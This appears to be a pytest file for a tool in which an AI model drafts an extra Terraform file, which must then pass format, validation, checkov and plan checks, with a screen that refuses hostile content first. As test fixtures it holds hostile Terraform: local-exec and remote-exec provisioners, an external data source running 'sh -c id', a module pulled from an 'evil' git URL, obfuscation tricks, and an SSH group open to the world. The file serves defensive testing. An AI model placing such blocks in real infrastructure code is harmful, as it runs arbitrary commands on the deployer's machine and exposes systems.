"""resources.extra: the model writes extra.tf for what the templates cannot make; it is kept only if it passes
the same checks as the generated files (fmt, validate, the checkov blocking set, plan against a real moto_server),
and hostile text is refused before any Terraform command sees it. The model is a local Messages API server
driven by the real SDK."""
from __future__ import annotations

from pathlib import Path

import pytest
from redis import Redis

from agents.iac import stage as iac
from agents.iac.generate import llm_fill
from orchestra.config.loader import parse_config
from orchestra.errors import ConfigError
from orchestra.settings import Settings
from tests.agents.iac.test_generate_resources import configured
from tests.agents.iac.test_plan import context, shop
from tests.support.fake_anthropic import FakeAnthropic, fake_anthropic_fixture
from tests.support.moto import aws_env

KEY = "sk-ant-iac-extra"
TOOL = "record_extra_terraform"
EXTRA = "resources:\n  extra: a queue for the backend's jobs, kept one day\n"
QUEUE = ('resource "aws_sqs_queue" "jobs" {\n  name                      = "${var.name_prefix}-backend-jobs"\n'
         '  message_retention_seconds = 86400\n}\n')
SSH_OPEN = ('resource "aws_security_group" "ssh" {\n  name        = "${var.name_prefix}-ssh"\n'
            '  description = "ssh"\n\n  ingress {\n    from_port   = 22\n    to_port     = 22\n'
            '    protocol    = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n')
LOCAL_EXEC = QUEUE.replace("}\n", '\n  provisioner "local-exec" {\n    command = "touch {marker}"\n  }\n}\n')

server = fake_anthropic_fixture(api_key=KEY)


def _run(tmp_path: Path, settings: Settings, redis: Redis, moto: str, mirror: Path,
         server: FakeAnthropic | None = None) -> tuple[iac.StageResult, Path]:
    settings = settings.with_(terraform_mirror=mirror, terraform_cli_config=None)
    if server is not None:
        settings = server.client_settings(settings)
    ctx = context(configured(shop(tmp_path, "lambda"), EXTRA), settings, redis)
    with aws_env(moto):
        result = iac.run(ctx)
    return result, settings.run_dir(ctx.run.id) / "infrastructure" / "generated"


def test_a_sound_extra_file_passes_the_checks_and_is_kept(tmp_path: Path, settings: Settings, redis: Redis,
                                                         provider_mirror: Path, moto: str,
                                                         server: FakeAnthropic) -> None:
    server.reply_tool(TOOL, {"terraform": QUEUE, "summary": "an SQS queue for jobs"})
    result, folder = _run(tmp_path, settings, redis, moto, provider_mirror, server)
    assert result.passed, result.summary
    assert "aws_sqs_queue ×1" in result.summary and "passed the same checks and is kept" in result.summary
    assert (folder / "extra.tf").read_text() == QUEUE and result.data["extra"]["kept"] is True
    assert "aws_sqs_queue.jobs" in result.data["plan"]["add"]
    prompt = server.last_user_text()  # the generated resources' addresses and the operator's words reach it
    assert "aws_lambda_function.service" in prompt and "name_prefix" in prompt and "backend's jobs" in prompt


@pytest.mark.parametrize(("text", "reason"), [
    ('resource "aws_sqs_queue" "jobs" {\n  name = var.nope\n}\n',
     "infrastructure/generated/extra.tf:2: Reference to undeclared input variable"),
    (SSH_OPEN, "CKV_AWS_24"),
    (QUEUE.replace("  name  ", "name  "), "not formatted: infrastructure/generated/extra.tf"),
], ids=["invalid", "checkov-blocking", "unformatted"])
def test_an_extra_file_that_fails_a_check_is_discarded_and_the_generated_files_go_on(
        tmp_path: Path, settings: Settings, redis: Redis, provider_mirror: Path, moto: str, server: FakeAnthropic,
        text: str, reason: str) -> None:
    server.reply_tool(TOOL, {"terraform": text, "summary": "x"})
    result, folder = _run(tmp_path, settings, redis, moto, provider_mirror, server)
    assert result.passed, result.summary  # the generated files alone
    assert "extra.tf failed the checks and was discarded" in result.summary and reason in result.summary
    assert not (folder / "extra.tf").exists() and result.data["extra"]["kept"] is False
    assert not any("extra" in address or "sqs" in address for address in result.data["plan"]["add"])


def test_a_local_exec_provisioner_is_refused_before_terraform_runs(tmp_path: Path, settings: Settings,
                                                                   redis: Redis, provider_mirror: Path, moto: str,
                                                                   server: FakeAnthropic) -> None:
    marker = tmp_path / "pwned"
    server.reply_tool(TOOL, {"terraform": LOCAL_EXEC.replace("{marker}", str(marker)), "summary": "a queue"})
    result, folder = _run(tmp_path, settings, redis, moto, provider_mirror, server)
    assert result.passed, result.summary
    assert "refused before Terraform ran" in result.summary and "local-exec" in result.summary
    assert not (folder / "extra.tf").exists() and not marker.exists()  # never written where Terraform reads


def test_without_a_model_the_extra_is_not_made_and_the_thread_says_so(tmp_path: Path, settings: Settings,
                                                                      redis: Redis, provider_mirror: Path,
                                                                      moto: str) -> None:
    result, folder = _run(tmp_path, settings, redis, moto, provider_mirror)
    assert result.passed, result.summary
    assert "resources.extra not made: no model is configured" in result.summary
    assert not (folder / "extra.tf").exists()


@pytest.mark.parametrize(("text", "reason"), [
    ('provider "aws" {\n  region = "us-east-1"\n}\n' + QUEUE, "provider"),
    ('terraform {\n  backend "http" {\n    address = "http://127.0.0.1:1/x"\n  }\n}\n' + QUEUE, "terraform block"),
    ('module "q" {\n  source = "git::https://example.com/evil.git"\n}\n', "module"),
    ('module q {\n  source = "./q"\n}\n' + QUEUE, "module"),
    ('data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' + QUEUE, "external"),
    ("data external x {\n  program = [\"id\"]\n}\n" + QUEUE, "external"),
    ('resource "null_resource" "x" {}\n', "null_resource"),
    ('data "ext\\u0065rnal" "x" {\n  program = ["id"]\n}\n' + QUEUE, "\\u escapes"),
    ('resource /* hidden */ "null_resource" "x" {}\n' + QUEUE, "block comment"),
    (LOCAL_EXEC.replace('"local-exec"', '"remote-exec"'), "remote-exec"),
    ('import {\n  to = aws_sqs_queue.jobs\n  id = "https://sqs/x"\n}\n' + QUEUE, "import block"),
    ('removed {\n  from = aws_ecr_repository.repo\n}\n' + QUEUE, "removed block"),
    (QUEUE + "#" * llm_fill.MAX_CHARS, "over the 12000 allowed"),
    (QUEUE.replace("86400", "86400\n  tags = { k = \"AKIAIOSFODNN7EXAMPLE\" }"), "secret"),
    ("", "no aws_ resource"),
], ids=["provider", "backend", "remote-module", "local-module", "external", "external-bare", "null", "escape",
        "comment", "remote-exec", "import", "removed", "oversize", "secret", "empty"])
def test_hostile_model_output_is_refused_by_the_screen(text: str, reason: str) -> None:
    problems = llm_fill.screen(text)
    assert any(reason in p for p in problems), problems


def test_the_screen_lets_a_plain_aws_file_through_even_naming_the_backend_service() -> None:
    assert llm_fill.screen(QUEUE) == []
    assert llm_fill.screen(SSH_OPEN) == []  # the checks, not the screen, judge what it makes


def test_extra_is_refused_with_file_and_line_where_nothing_is_generated() -> None:
    text = "project: {name: shop}\ndeployment:\n  services:\n    - {name: web, path: web, port: 8000}\n"
    with pytest.raises(ConfigError) as refused:
        parse_config(text + "resources:\n  extra: an SQS queue\n", filename="devops_orchestra.yaml")
    assert "devops_orchestra.yaml" in str(refused.value) and "runtime: ecs" in str(refused.value)
